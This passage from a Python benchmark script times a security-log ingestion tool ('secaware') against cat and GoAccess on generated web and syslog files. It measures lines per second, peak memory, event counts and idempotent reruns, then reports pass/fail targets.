                stamp = stamps_3339[i] if h.rfc3339 else stamps_3164[i]
                block.append(f"{stamp} {h.name} {tag}: {msg}\n")
                i += 1
            if len(block) >= 200_000:
                f.write("".join(block))
                block = []
        f.write("".join(block))
    tmp.replace(path)


def prefix_file(src: Path, dst: Path, lines: int) -> None:
    """The first `lines` lines of src (the 1M-line run shares its first lines with the full one)."""
    tmp = dst.with_suffix(".tmp")
    left = lines
    with open(src, "rb") as fin, open(tmp, "wb") as fout:
        while left > 0:
            block = fin.read(64 << 20)
            if not block:
                break
            n = block.count(b"\n")
            if n >= left:
                cut = -1
                for _ in range(left):
                    cut = block.index(b"\n", cut + 1)
                fout.write(block[: cut + 1])
                left = 0
            else:
                fout.write(block)
                left -= n
    tmp.replace(dst)


def ensure(path: Path, make: Any, *args: Any) -> float:
    """Create path with make(path, *args) unless it is cached; returns the seconds spent."""
    if path.exists():
        return 0.0
    path.parent.mkdir(parents=True, exist_ok=True)
    t0 = time.perf_counter()
    make(path, *args)
    return time.perf_counter() - t0


# --------------------------------------------------------------------------------------------
# Measuring
# --------------------------------------------------------------------------------------------


@dataclass
class Result:
    tool: str
    file: str
    lines: int
    bytes: int
    seconds: float
    peak_rss_kb: int
    exit_code: int
    command: list[str]
    events: int | None = None
    rejects: int | None = None
    store_bytes: int | None = None
    store_rows: int | None = None
    note: str = ""
    extra: dict[str, Any] = field(default_factory=dict)

    @property
    def lines_per_s(self) -> float:
        return self.lines / self.seconds if self.seconds else 0.0

    @property
    def mb_per_s(self) -> float:
        return self.bytes / MB / self.seconds if self.seconds else 0.0

    @property
    def peak_rss_mb(self) -> float:
        return self.peak_rss_kb / 1024

    def as_dict(self) -> dict[str, Any]:
        d = asdict(self)
        d.update(lines_per_s=round(self.lines_per_s), mb_per_s=round(self.mb_per_s, 1),
                 peak_rss_mb=round(self.peak_rss_mb, 1), seconds=round(self.seconds, 3))
        return d


TIME_BIN = "/usr/bin/time"
#: Fallback when GNU time is missing: a minimal Python that runs the command and reports wait4's figures.
_RUNNER = """
import json, os, subprocess, sys, time
cmd, out, env = json.loads(sys.argv[1])
with open(out, "wb") as so, open(out + ".err" if out != os.devnull else out, "wb") as se:
    t0 = time.perf_counter()
    p = subprocess.Popen(cmd, stdout=so, stderr=se, stdin=subprocess.DEVNULL, env=env)
    _, status, usage = os.wait4(p.pid, 0)
    seconds = time.perf_counter() - t0
print(json.dumps([seconds, usage.ru_maxrss, os.waitstatus_to_exitcode(status)]))
"""


def run_child(cmd: list[str], out: Path | None, *, env: dict[str, str] | None = None) -> tuple[float, int, int]:
    """Run cmd, stdout to `out` (None: /dev/null) and stderr to out + '.err'; wall s, peak RSS KiB, exit code.

    Peak RSS is the child's ru_maxrss as wait4 reports it. It must not be taken with wait4 from this
    process: Linux folds the RSS a child had before exec (a fork of this Polars-laden process, some
    hundreds of MB) into ru_maxrss, which would swamp small tools such as cat. So the child is
    started by a small parent: GNU time (`/usr/bin/time -f %M`) when installed, else a bare Python
    (which adds its own ~10 MB as a floor). Wall time is taken around the child alone.
    """
    target = os.devnull if out is None else str(out)
    env = dict(os.environ) if env is None else env
    if os.access(TIME_BIN, os.X_OK):
        rss_file = Path(str(out) + ".rss") if out is not None else None
        fd = None
        if rss_file is None:
            import tempfile

            fd, name = tempfile.mkstemp(prefix="bench-rss-")
            os.close(fd)
            rss_file = Path(name)
        err = os.devnull if out is None else target + ".err"
        try:
            with open(target, "wb") as so, open(err, "wb") as se:
                t0 = time.perf_counter()
                code = subprocess.call([TIME_BIN, "-f", "%M", "-o", str(rss_file), *cmd], stdout=so, stderr=se,
                                       stdin=subprocess.DEVNULL, env=env)
                seconds = time.perf_counter() - t0
            rss = int(rss_file.read_text().split()[-1])  # "Command exited with non-zero status N" may come first
        finally:
            if fd is not None:
                rss_file.unlink(missing_ok=True)
        return seconds, rss, code
    done = subprocess.run([sys.executable, "-I", "-S", "-c", _RUNNER, json.dumps([cmd, target, env])],
                          capture_output=True, text=True, check=True)
    seconds, rss, code = json.loads(done.stdout)  # the runner's own timing leaves out its start-up
    return float(seconds), int(rss), int(code)


def count_lines(path: Path) -> int:
    n = 0
    with open(path, "rb") as f:
        while block := f.read(64 << 20):
            n += block.count(b"\n")
    return n


def dir_bytes(path: Path) -> int:
    return sum(f.stat().st_size for f in path.rglob("*") if f.is_file())


def delta_rows(table: Path) -> int | None:
    """Rows in a Delta table from the numRecords of its add/remove actions (standard library only)."""
    log = table / "_delta_log"
    if not log.is_dir():
        return None
    rows = 0
    for commit in sorted(log.glob("*.json")):
        for text in commit.read_text().splitlines():
            action = json.loads(text)
            for key, sign in (("add", 1), ("remove", -1)):
                if key in action:
                    stats = action[key].get("stats")
                    if not stats:
                        return None
                    rows += sign * int(json.loads(stats)["numRecords"])
    return rows


def secaware_env() -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = str(REPO) + (os.pathsep + env["PYTHONPATH"] if env.get("PYTHONPATH") else "")
    return env


def bench_cat(path: Path, label: str, lines: int) -> Result:
    cmd = ["cat", str(path)]
    run_child(cmd, None)  # warm the page cache, so every tool reads the file from memory
    seconds, rss, code = run_child(cmd, None)
    return Result("cat", label, lines, path.stat().st_size, seconds, rss, code, [*cmd, ">", "/dev/null"])


def goaccess_version() -> str | None:
    exe = shutil.which("goaccess")
    if exe is None:
        return None
    out = subprocess.run([exe, "--version"], capture_output=True, text=True, check=False).stdout
    return out.splitlines()[0].strip().rstrip(".") if out else "goaccess"


def bench_goaccess(path: Path, label: str, lines: int, workdir: Path, check_lines: int) -> Result:
    """GoAccess parsing everything and writing no report (--process-and-exit).

    That is the least work GoAccess can be asked for: it parses every line into its panels and
    exits. Because it then says nothing, a JSON report of a prefix of the same file is made first
    (untimed) to check that GoAccess reads this log: every line valid, none failed.
    """
    probe = workdir / "goaccess-probe.log"
    prefix_file(path, probe, check_lines)
    report = workdir / "goaccess-probe.json"
    probe_cmd = ["goaccess", str(probe), "--log-format=COMBINED", "--no-progress", "--no-parsing-spinner",
                 "-o", str(report)]
    _, _, code = run_child(probe_cmd, workdir / "goaccess-probe.out")
    general: dict[str, Any] = {}
    if code == 0 and report.exists():
        general = json.loads(report.read_text()).get("general", {})
    probe.unlink(missing_ok=True)
    cmd = ["goaccess", str(path), "--log-format=COMBINED", "--process-and-exit", "--no-progress",
           "--no-parsing-spinner"]
    seconds, rss, code = run_child(cmd, workdir / "goaccess.out")
    valid, failed = general.get("valid_requests"), general.get("failed_requests")
    note = f"probe of {check_lines:,} lines: {valid} valid, {failed} failed"
    return Result("goaccess", label, lines, path.stat().st_size, seconds, rss, code, cmd, note=note,
                  extra={"probe_lines": check_lines, "probe_valid": valid, "probe_failed": failed})


def bench_secaware(path: Path, label: str, lines: int, store: Path, workdir: Path, *, fresh: bool,
                   tool: str = "secaware") -> Result:
    if fresh and store.exists():
        shutil.rmtree(store)
    before = delta_rows(store / "events") or 0
    cmd = [sys.executable, "-m", "secaware", "ingest", str(path), "--store", str(store), "--json"]
    out = workdir / f"{tool}-{label}.json"
    seconds, rss, code = run_child(cmd, out, env=secaware_env())
    events = rejects = None
    note = ""
    extra: dict[str, Any] = {}
    try:
        report = json.loads(out.read_text())
        totals = report["totals"]
        events, rejects = int(totals["events"]), int(totals["rejects"])
        extra = {"reported_lines": totals["lines"], "skipped": totals["skipped"], "batches": report["batches"],
                 "status": [f["status"] for f in report["files"]], "internal_seconds": report["seconds"]}
    except (OSError, ValueError, KeyError) as exc:
        err = Path(str(out) + ".err").read_text(errors="replace").strip().splitlines()
        note = f"no JSON report ({exc}); stderr: {err[-1] if err else ''}"
    after = delta_rows(store / "events")
    res = Result(tool, label, lines, path.stat().st_size, seconds, rss, code, cmd, events=events, rejects=rejects,
                 store_bytes=dir_bytes(store) if store.exists() else None, store_rows=after, note=note, extra=extra)
    res.extra["rows_added"] = None if after is None else after - before
    return res


# --------------------------------------------------------------------------------------------
# Report
# --------------------------------------------------------------------------------------------


def checks(results: list[Result], rss_tolerance: float = RSS_GROWTH_TOLERANCE) -> list[dict[str, Any]]:
    def find(tool: str, file: str) -> Result | None:
        return next((r for r in results if r.tool == tool and r.file == file), None)

    out: list[dict[str, Any]] = []

    def add(name: str, target: str, value: str, ok: bool | None) -> None:
        out.append({"check": name, "target": target, "measured": value,
                    "result": "SKIP" if ok is None else ("PASS" if ok else "FAIL")})

    web, goa = find("secaware", "web"), find("goaccess", "web")
    prefix = next((r for r in results if r.tool == "secaware" and r.file.startswith("web-")), None)
    if web:
        add("ingest lines/s (web)", f">= {TARGET_LINES_PER_S:,}", f"{web.lines_per_s:,.0f}",
            web.exit_code == 0 and web.lines_per_s >= TARGET_LINES_PER_S)
    if web:
        ratio = web.lines_per_s / goa.lines_per_s if goa and goa.exit_code == 0 else None
        add("ingest vs GoAccess (web)", f">= {TARGET_VS_GOACCESS:g}x", "-" if ratio is None else f"{ratio:.2f}x",
            None if ratio is None else ratio >= TARGET_VS_GOACCESS)
    rss_all = [r for r in results if r.tool == "secaware"]
    if rss_all:
        worst = max(rss_all, key=lambda r: r.peak_rss_kb)
        add("ingest peak RSS", f"<= {TARGET_RSS_MB} MB", f"{worst.peak_rss_mb:,.0f} MB ({worst.file})",
            worst.peak_rss_mb <= TARGET_RSS_MB)
    if web and prefix:
        growth = web.peak_rss_kb / prefix.peak_rss_kb if prefix.peak_rss_kb else float("inf")
        add(f"peak RSS not growing {prefix.lines / 1e6:g}M -> {web.lines / 1e6:g}M lines",
            f"<= {rss_tolerance:.2f}x", f"{prefix.peak_rss_mb:,.0f} -> {web.peak_rss_mb:,.0f} MB "
            f"({growth:.2f}x)", growth <= rss_tolerance)
    for r in results:
        if r.tool == "secaware":
            ok = r.exit_code == 0 and r.events == r.lines and r.store_rows == r.lines
            add(f"events == lines ({r.file})", f"{r.lines:,}", f"{r.events if r.events is None else f'{r.events:,}'}"
                f" events, {r.rejects} rejects, {r.store_rows} rows in store", ok)
        if r.tool == "secaware-rerun":
            added = r.extra.get("rows_added")
            add(f"idempotent rerun ({r.file})", "0 rows added", f"{added} rows, {r.seconds:.2f}s",
                r.exit_code == 0 and added == 0 and r.events == 0)
    return out


def table(results: list[Result], check_rows: list[dict[str, Any]], info: dict[str, Any]) -> str:
    goa = {r.file: r for r in results if r.tool == "goaccess" and r.exit_code == 0}
    head = ("tool", "file", "lines", "MB", "seconds", "lines/s", "MB/s", "peak RSS MB", "vs goaccess", "events",
            "store MB")
    rows = [head]
    for r in results:
        g = goa.get(r.file)
        ratio = f"{r.lines_per_s / g.lines_per_s:.2f}x" if g and r.tool.startswith("secaware") else ""
        rerun = r.tool == "secaware-rerun"  # reads nothing: only its time means something
        if rerun:
            ratio = ""
        rows.append((r.tool + ("" if r.exit_code == 0 else f" (exit {r.exit_code})"), r.file, f"{r.lines:,}",
                     f"{r.bytes / MB:,.1f}", f"{r.seconds:.2f}", "-" if rerun else f"{r.lines_per_s:,.0f}",
                     "-" if rerun else f"{r.mb_per_s:,.1f}",
                     f"{r.peak_rss_mb:,.1f}", ratio, "" if r.events is None else f"{r.events:,}",
                     "" if r.store_bytes is None else f"{r.store_bytes / MB:,.1f}"))
    widths = [max(len(row[i]) for row in rows) for i in range(len(head))]
    lines = [f"secaware ingest benchmark  {info['when']}  {info['machine']}",
             f"python {info['python']}, polars {info['polars']}, {info['goaccess'] or 'GoAccess not run'}; "
             f"load average {info['load_before']} before, {info['load_after']} after (other work on the machine "
             "skews the figures)", ""]
    for k, row in enumerate(rows):
        cells = [row[0].ljust(widths[0]), row[1].ljust(widths[1])] + [c.rjust(w) for c, w in
                                                                      zip(row[2:], widths[2:], strict=True)]
        lines.append("  ".join(cells).rstrip())
        if k == 0:
            lines.append("  ".join("-" * w for w in widths))
    notes = [f"  {r.tool} {r.file}: {r.note}" for r in results if r.note]
    if notes:
        lines += ["", "notes:", *notes]
    lines += ["", "targets:"]
    cw = [max(len(c[k]) for c in check_rows) for k in ("check", "target", "measured")] if check_rows else [0, 0, 0]
    for c in check_rows:
        lines.append(f"  {c['result']:4}  {c['check'].ljust(cw[0])}  {c['target'].ljust(cw[1])}  {c['measured']}")
    return "\n".join(lines)


# --------------------------------------------------------------------------------------------


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    ap.add_argument("--lines-web", type=int, default=5_000_000, help="lines of the access log (default 5M)")
    ap.add_argument("--lines-syslog", type=int, default=2_000_000, help="lines of the syslog file (default 2M)")
    ap.add_argument("--prefix-lines", type=int, default=PREFIX_LINES,
                    help="lines of the web-file prefix ingested to compare peak RSS (default 1M)")
    ap.add_argument("--seed", type=int, default=7, help="random seed of the generated logs")
    ap.add_argument("--workdir", type=Path, default=Path("/tmp/secaware-bench"),
                    help="generated logs (cached), stores and outputs (default /tmp/secaware-bench)")
    ap.add_argument("--keep", action="store_true", help="keep the stores and tool outputs (logs are always kept)")
    ap.add_argument("--skip-goaccess", action="store_true", help="do not run GoAccess even if it is installed")
    ap.add_argument("--rss-tolerance", type=float, default=RSS_GROWTH_TOLERANCE,
                    help="peak RSS of the full web file may exceed the prefix's by this factor (default 1.10)")
    ap.add_argument("--json", action="store_true", help="print the results as JSON instead of a table")
    args = ap.parse_args(argv)

    work = args.workdir.absolute()
    data = work / "data" / "620100-lanzhou"  # a collector-style path: the prefecture comes from it
    runs = work / "runs"
    web = data / f"access-{args.lines_web}-s{args.seed}-v{GEN_VERSION}.log"
    syslog = data / f"secure-{args.lines_syslog}-s{args.seed}-v{GEN_VERSION}.log"
    prefix_n = min(args.prefix_lines, args.lines_web)
    prefix = data / f"access-{args.lines_web}-s{args.seed}-v{GEN_VERSION}-head{prefix_n}.log"

    def say(msg: str) -> None:
        print(msg, file=sys.stderr, flush=True)

    gen: dict[str, float] = {}
    for name, path, make, n in ((f"web {args.lines_web:,} lines", web, generate_web, args.lines_web),
                                (f"syslog {args.lines_syslog:,} lines", syslog, generate_syslog, args.lines_syslog)):
        if n <= 0:
            continue
        if not path.exists():
            say(f"generating {name} -> {path}")
        gen[name] = ensure(path, make, n, args.seed)
        if gen[name]:
            say(f"  {gen[name]:.1f}s, {path.stat().st_size / MB:,.0f} MB")
    if args.lines_web > 0:
        ensure(prefix, lambda dst: prefix_file(web, dst, prefix_n))

    if runs.exists():
        shutil.rmtree(runs)
    runs.mkdir(parents=True)
    goaccess = None if args.skip_goaccess else goaccess_version()
    load_before = " ".join(f"{x:.2f}" for x in os.getloadavg())
    results: list[Result] = []
    try:
        plan: list[tuple[str, Path]] = []
        if args.lines_web > 0:
            plan.append(("web", web))
            if prefix_n < args.lines_web:
                plan.append((f"web-{prefix_n / 1e6:g}M", prefix))
        if args.lines_syslog > 0:
            plan.append(("syslog", syslog))
        for label, path in plan:
            lines = count_lines(path)
            say(f"[{label}] cat")
            results.append(bench_cat(path, label, lines))
            if goaccess and label == "web":
                say(f"[{label}] goaccess")
                results.append(bench_goaccess(path, label, lines, runs, check_lines=min(lines, 200_000)))
            store = runs / f"store-{label}"
            say(f"[{label}] secaware ingest")
            results.append(bench_secaware(path, label, lines, store, runs, fresh=True))
            if label != f"web-{prefix_n / 1e6:g}M":
                say(f"[{label}] secaware ingest, rerun into the same store")
                results.append(bench_secaware(path, label, lines, store, runs, fresh=False, tool="secaware-rerun"))
    finally:
        if not args.keep:
            shutil.rmtree(runs, ignore_errors=True)

    info = {
        "when": dt.datetime.now().astimezone().isoformat(timespec="seconds"),
        "machine": f"{os.cpu_count()} CPUs, {os.uname().machine}",
        "python": sys.version.split()[0], "polars": pl.__version__, "goaccess": goaccess,
        "load_before": load_before, "load_after": " ".join(f"{x:.2f}" for x in os.getloadavg()),
        "generation_seconds": {k: round(v, 1) for k, v in gen.items()},
    }
    check_rows = checks(results, args.rss_tolerance)
    doc = json.dumps({"info": info, "results": [r.as_dict() for r in results], "targets": check_rows},
                     ensure_ascii=False, indent=2)
    saved = work / f"results-{dt.datetime.now():%Y%m%dT%H%M%S}.json"
    saved.write_text(doc + "\n")
    say(f"results saved to {saved}")
    if args.json:
        print(doc)
    else:
        print(table(results, check_rows, info))
    return 0 if all(c["result"] != "FAIL" for c in check_rows) else 1


if __name__ == "__main__":
    sys.exit(main())
